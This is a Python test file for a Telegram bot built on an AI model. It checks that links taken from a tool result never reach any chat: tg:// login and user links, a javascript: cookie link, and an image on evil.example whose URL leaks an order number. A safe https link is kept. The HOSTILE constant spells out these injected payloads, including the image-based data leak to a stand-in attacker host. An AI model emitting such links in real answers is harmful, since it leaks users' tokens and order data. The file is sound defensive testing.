"""One output policy for links (issue 61, item 5), through bot.testing: an answer that repeats
a tool result's `tg://` and `javascript:` links and an image whose URL carries an order
number reaches no chat with them, whatever path it takes (a private chat's drafts and text, a
rich message, a group's edits, a guest query, a business chat); its http(s) link stays."""

from __future__ import annotations

import json

import pytest

from bot import App
from bot.testing import BotTester, ScriptedModel
from bot.testing.telegram import BOT_USERNAME, SentCall

pytestmark = [pytest.mark.timeout(60)]

HOSTILE = (
    "Your order ships today. [Verify](tg://login?token=SECRET-TOKEN) your account, "
    "[pay](javascript:alert(document.cookie)) the fee, ask [Olga](tg://user?id=42), "
    "see ![p](https://evil.example/p.png?leak=ORDER-A-1) and the [tracking page]"
    "(https://shop.example/track/A-1)."
)
TABLE = "\n\n| Order | State |\n|---|---|\n| A-1 | shipped |"
REFUSED = ("tg://", "javascript:", "SECRET-TOKEN", "evil.example", "ORDER-A-1", "user?id=42")


def model() -> ScriptedModel:
    scripted = ScriptedModel()
    scripted.when("table").answer(HOSTILE + TABLE)
    scripted.when("order").answer(HOSTILE)
    return scripted


def assert_clean(calls: tuple[SentCall, ...]) -> None:
    """No Bot API call carried a refused link, in its text, entities or rich Markdown."""
    sent = [c for c in calls if c.method not in ("sendChatAction", "getChat")]
    assert sent, "the bot sent nothing"
    for call in sent:
        wire = json.dumps(call.params, ensure_ascii=False, default=str)
        for refused in REFUSED:
            assert refused not in wire, (call.method, refused, wire)
    # The http(s) link is kept, as a link.
    assert any("https://shop.example/track/A-1" in json.dumps(c.params, default=str)
               for c in sent), [c.method for c in sent]


async def test_refused_links_and_images_reach_no_chat_on_any_path() -> None:
    async with BotTester(App(env_file=None), model=model()) as tester:
        anna = tester.user("Anna")
        plain = await anna.says("where is my order?")
        assert plain.rich == []
        assert "Verify your account, pay the fee, ask Olga" in plain.text
        assert_clean(plain.calls)

        rich = await anna.says("show my orders as a table")
        assert rich.rich, "a table answer goes as a rich message"
        assert_clean(rich.calls)

        team = tester.group("Team")
        assert_clean((await team.says(anna, f"@{BOT_USERNAME} where is my order?")).calls)
        assert_clean((await team.says(anna, f"@{BOT_USERNAME} orders as a table")).calls)

        guest = await tester.guest(anna, f"@{BOT_USERNAME} where is my order?")
        assert_clean(guest.calls)

        shop = await tester.business(tester.user("Olga"))
        assert_clean((await shop.customer(tester.user("Bob")).says("my order?")).calls)
